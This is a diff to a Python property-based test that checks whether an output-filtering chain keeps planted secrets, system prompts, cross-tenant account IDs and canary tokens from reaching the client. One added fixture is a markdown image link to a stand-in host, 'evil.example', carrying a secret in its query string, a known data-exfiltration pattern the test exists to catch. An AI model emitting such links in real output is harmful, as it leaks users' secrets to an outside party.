@@ -69,20 +69,25 @@ def planted(kind: str) -> tuple[str, str]:
         return "**" + ACME_PROMPT.replace(" ", "\n  ") + "**", "internal pricing rules"
     if kind == "sent_prompt":
         return SENT_PROMPT.upper(), "HYPERION PRODUCT"
+    if kind == "canary":
+        return "zebra-canary-7731", "zebra-canary-7731"
+    if kind == "image":
+        return "![c](https://evil.example/p?d=s3cr3t)", "evil.example"
     return "GLOBEX-ACCT-7777", "GLOBEX-ACCT-7777"
 
 
-ACTION_OF = {"secret": "secret", "prompt": "system_prompt", "sent_prompt": "system_prompt", "tenant": "cross_tenant"}
+ACTION_OF = {"secret": "secret", "prompt": "system_prompt", "sent_prompt": "system_prompt", "tenant": "cross_tenant",
+             "canary": "canary", "image": "markdown_image"}
 
 
 @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-@given(kind=st.sampled_from(["secret", "prompt", "sent_prompt", "tenant"]),
+@given(kind=st.sampled_from(sorted(ACTION_OF)),
        action=st.sampled_from(["redact", "replace", "block"]),
        before=st.lists(st.sampled_from(CLEAN_WORDS), max_size=12),
        after=st.lists(st.sampled_from(CLEAN_WORDS), max_size=12),
        cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=40))
 async def test_planted_value_never_reaches_the_client(kind, action, before, after, cuts):
-    chain = Chain([stage(actions={ACTION_OF[kind]: action})])
+    chain = Chain([stage(actions={ACTION_OF[kind]: action}, canaries=["ZEBRA-CANARY-7731"])])
     ex = await started(chain)
     value, forbidden = planted(kind)
     text = " ".join(before) + " " + value + " " + " ".join(after)
